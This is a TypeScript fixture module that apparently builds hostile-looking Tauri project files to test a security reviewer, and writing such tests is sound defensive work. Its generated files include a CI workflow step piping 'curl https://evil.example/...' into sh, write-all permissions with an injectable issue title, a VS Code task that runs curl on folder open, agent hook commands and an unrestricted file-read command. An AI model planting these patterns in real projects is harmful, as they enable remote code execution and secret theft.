import type { Files } from "../hostile/reviewer.ts";

/** Files by which the app is built, packed and opened, with one name wherever people choose one; `file` is that name as a file's. */
export function buildsNamed(name: string, file: string): Files {
  return {
    ...workflowsNamed(name, file),
    ...openingNamed(name, file),
    ...nativeNamed(name),
    ...codeNamed(file),
  };
}

/** What a bundle is made of. */
export function bundleNamed(name: string): Readonly<Record<string, unknown>> {
  return {
    externalBin: [name],
    resources: [name],
    fileAssociations: [{ ext: [name], mimeType: name, name }],
    linux: {
      deb: {
        files: { [`/etc/cron.d/${name}`]: name, [name]: name },
        depends: [name],
        replaces: [name],
        postInstallScript: name,
      },
    },
    macOS: {
      frameworks: [name, `./${name}.dylib`],
      signingIdentity: name,
      exceptionDomain: name,
      entitlements: name,
    },
    windows: {
      signCommand: name,
      certificateThumbprint: name,
      webviewInstallMode: { type: "fixedRuntime", path: name },
      nsis: { installerHooks: name, template: name },
      wix: { componentRefs: [name], fragmentPaths: [name] },
    },
  };
}

function workflowsNamed(name: string, file: string): Files {
  const job = {
    name,
    "runs-on": name,
    permissions: "write-all",
    env: { [name]: name, KEY: `\${{ secrets.${name} }}` },
    steps: [
      { name, uses: `${name}@v1`, with: { ref: name, tauriScript: name } },
      { run: `curl https://evil.example/${name} | sh` },
      { run: `npm install -g ${name}`, env: { RUSTC_WRAPPER: name } },
      { run: `echo "\${{ github.event.issue.title }}" ${name}` },
    ],
  };
  const workflow = JSON.stringify({ name, on: { issues: { types: [name] } }, jobs: { [name]: job } });
  const action = JSON.stringify({ name, runs: { using: "composite", steps: [{ uses: `${name}@v1` }] } });
  return { [`.github/workflows/${file}.yml`]: workflow, [`.github/actions/${file}/action.yml`]: action };
}

function openingNamed(name: string, file: string): Files {
  const server = { command: name, args: [name] };
  const task = {
    label: name,
    command: `curl https://${name}`,
    args: [name],
    runOptions: { runOn: "folderOpen" },
  };
  return {
    ".vscode/tasks.json": JSON.stringify({ tasks: [task] }),
    ".vscode/settings.json": JSON.stringify({ [`${name}.path`]: `./${name}` }),
    ".mcp.json": JSON.stringify({ mcpServers: { [name]: server } }),
    ".claude/settings.json": JSON.stringify({ hooks: { [name]: [{ hooks: [{ command: `sh ${name}` }] }] } }),
    ".devcontainer/devcontainer.json": JSON.stringify({ features: { [name]: {} }, postCreateCommand: name }),
    [`${file}/AGENTS.md`]: `${name}\n`,
    [`.husky/${file}`]: `node ${name}\n`,
  };
}

function nativeNamed(name: string): Files {
  const text = inXml(name);
  const plist = (entries: string) => `<plist version="1.0"><dict>${entries}</dict></plist>\n`;
  return {
    "src-tauri/Info.plist": plist(
      `<key>LSEnvironment</key><dict><key>${text}</key><string>${text}</string></dict><key>NSCameraUsageDescription</key><string>${text}</string>`,
    ),
    "src-tauri/Entitlements.plist": plist(
      `<key>com.apple.security.${text}</key><true/><key>keychain-access-groups</key><array><string>${text}</string></array>`,
    ),
    "src-tauri/gen/android/app/src/main/AndroidManifest.xml": `<manifest xmlns:android="http://schemas.android.com/apk/res/android"><uses-permission android:name="${text}"/><application><provider android:name="${text}" android:exported="true"/></application></manifest>\n`,
  };
}

/** What XML can hold of a name. */
function inXml(name: string): string {
  return name
    .replace(/[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/gu, "")
    .replace(/[<>&"']/g, (character) => `&#${character.charCodeAt(0)};`);
}

/** A command in a file of that name. Rust gives commands and their inputs no names that are more than letters. */
function codeNamed(file: string): Files {
  const command =
    "#[tauri::command]\npub fn read(path: String) -> String {\n    std::fs::read_to_string(path).unwrap()\n}\n";
  return {
    "src-tauri/src/main.rs": `#[path = ${JSON.stringify(`${file}.rs`)}]\nmod named;\nfn main() {\n    tauri::Builder::default().invoke_handler(tauri::generate_handler![named::read]).run(tauri::generate_context!()).unwrap();\n}\n`,
    [`src-tauri/src/${file}.rs`]: command,
  };
}
